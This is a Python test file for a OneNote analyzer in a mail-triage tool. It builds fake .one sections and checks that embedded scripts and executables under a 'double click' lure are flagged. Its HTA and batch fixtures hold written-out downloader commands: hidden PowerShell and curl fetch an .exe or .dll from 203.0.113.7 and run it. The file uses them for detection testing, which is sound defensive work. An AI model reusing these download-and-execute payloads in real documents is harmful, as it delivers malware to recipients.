"""onenote analyzer: OneNote sections assembled by the test from the published format
([MS-ONESTORE] FileDataStoreObject records), carrying what the 2023 campaigns embedded
(HTA, batch, PE, LNK) under a "double click" picture, benign sections with pictures only,
and truncated or lying length fields."""

from __future__ import annotations

import struct

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, onenote
from mailvm.triage.kinds import ONENOTE_MAGIC, classify
from triage_helpers import art, ids

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200
HTA = (b'<html><head><HTA:APPLICATION id="x" windowstate="minimize"></head><body><script language="VBScript">\r\n'
       b'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr http://203.0.113.7/a.exe -o $env:TEMP\\a.exe;'
       b' start $env:TEMP\\a.exe", 0\r\nself.close</script></body></html>')
BAT = b"@echo off\r\ncurl -s -o %TEMP%\\u.dll http://203.0.113.7/u.dll\r\nrundll32 %TEMP%\\u.dll,Init\r\n"
PE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 100
LNK = b"L\x00\x00\x00" + bytes.fromhex("0114020000000000c000000000000046") + b"\x00" * 60


def record(data: bytes) -> bytes:
    """One FileDataStoreObject: header GUID, 64-bit length, 12 unused bytes, data, padding to 8, footer GUID."""
    pad = (-len(data)) % 8
    return onenote.FILE_DATA_HEADER + struct.pack("<QIQ", len(data), 0, 0) + data + b"\x00" * pad + onenote.FILE_DATA_FOOTER


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le") + b"\x00\x00"


def section(*files: bytes, texts: tuple[str, ...] = ()) -> bytes:
    head = ONENOTE_MAGIC + b"\x00" * 1008  # the section header is 1 KiB
    props = b"".join(utf16(t) for t in texts)
    return head + props + b"".join(record(f) for f in files) + b"\x00" * 64


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, data: bytes, name: str = "Invoice.one"):
    p = tmp_path / name
    p.write_bytes(data)
    return triage.analyze(art(p))


def test_hta_under_a_double_click_picture(triage, tmp_path):
    data = section(PNG, HTA, texts=("Double Click to View Document", "Invoice_0412.hta"))
    r = run(triage, tmp_path, data)
    assert r.kind == "onenote" and not r.detonate
    found = ids(r)
    assert found["onenote_embedded_executable"] == 8 and found["onenote_click_lure"] == 5
    assert found["script_wscript_shell"] >= 5  # the carved script went through the script indicators
    assert r.verdict == "malicious"
    detail = next(f.detail for f in r.findings if f.id == "onenote_embedded_executable")
    assert "hta" in detail and "Invoice_0412.hta" in detail


@pytest.mark.parametrize("blob, kind", [(BAT, "bat"), (PE, "exe"), (LNK, "lnk")])
def test_embedded_programs(triage, tmp_path, blob, kind):
    r = run(triage, tmp_path, section(PNG, blob))
    assert ids(r)["onenote_embedded_executable"] == 8
    assert [e.kind for e in onenote.embedded(section(PNG, blob))] == ["image", kind]


def test_carve_returns_names_and_bytes_without_pictures():
    data = section(PNG, HTA, BAT)
    assert onenote.carve(data) == [("embedded_2.hta", HTA), ("embedded_3.bat", BAT)]
    assert [n for n, _ in onenote.carve(data, images=True)] == ["embedded_1.image", "embedded_2.hta", "embedded_3.bat"]


def test_embedded_document_is_suspicious_not_malicious(triage, tmp_path):
    r = run(triage, tmp_path, section(PNG, b"%PDF-1.7\n" + b"x" * 100, texts=("double-click the file below",)))
    found = ids(r)
    assert found["onenote_embedded_file"] == 5 and "onenote_embedded_executable" not in found


def test_notes_with_pictures_only_are_clean(triage, tmp_path):
    r = run(triage, tmp_path, section(PNG, PNG[:100] + b"\x01", texts=("Meeting notes", "Agenda")), "Notes.one")
    own = [f for f in r.findings if f.source == onenote.SOURCE]
    assert r.kind == "onenote" and own == [], r.findings  # (the .one extension itself is filetype's business)


def test_dangerous_name_without_carvable_content(triage, tmp_path):
    data = section(texts=("open.cmd",))
    found = ids(run(triage, tmp_path, data))
    assert found["onenote_embedded_name"] == 6


@pytest.mark.parametrize("tail", [
    onenote.FILE_DATA_HEADER + struct.pack("<Q", 2**63) + b"\x00" * 40,          # length far past the end
    onenote.FILE_DATA_HEADER + struct.pack("<Q", 1000) + b"\x00" * 12 + b"MZ",    # truncated record
    onenote.FILE_DATA_HEADER[:10],                                                # cut inside the GUID
    onenote.FILE_DATA_HEADER * 5000,                                              # many bogus headers
])
def test_lying_or_truncated_records_are_bounded(triage, tmp_path, tail):
    data = section(HTA) + tail
    carved = onenote.embedded(data)
    assert carved and carved[0].data == HTA and len(carved) <= onenote.MAX_FILES
    r = run(triage, tmp_path, data)
    assert r.errors == [] and ids(r)["onenote_embedded_executable"] == 8


def test_kind_is_onenote_not_office(tmp_path):
    p = tmp_path / "x.bin"
    p.write_bytes(section(PNG))
    assert classify(art(p)) == "onenote"
